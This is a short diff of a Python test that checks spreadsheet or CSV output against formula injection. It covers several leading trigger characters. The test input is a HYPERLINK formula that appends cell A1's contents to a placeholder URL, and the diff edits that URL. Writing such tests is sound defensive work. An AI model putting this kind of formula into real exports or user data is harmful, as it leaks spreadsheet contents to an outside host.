@@ -20,7 +20,7 @@ def read(path: Path) -> list[dict[str, str]]:
 
 @pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
 def test_no_text_is_a_formula(tmp_path, first):
-    evil = f'{first}HYPERLINK("http://x?"&A1,"see")'
+    evil = f'{first}HYPERLINK("http:x?"&A1,"see")'
     sizes = {"parotid_left": 20.0, evil: 3.0}
     entry = Entry(
         evil,
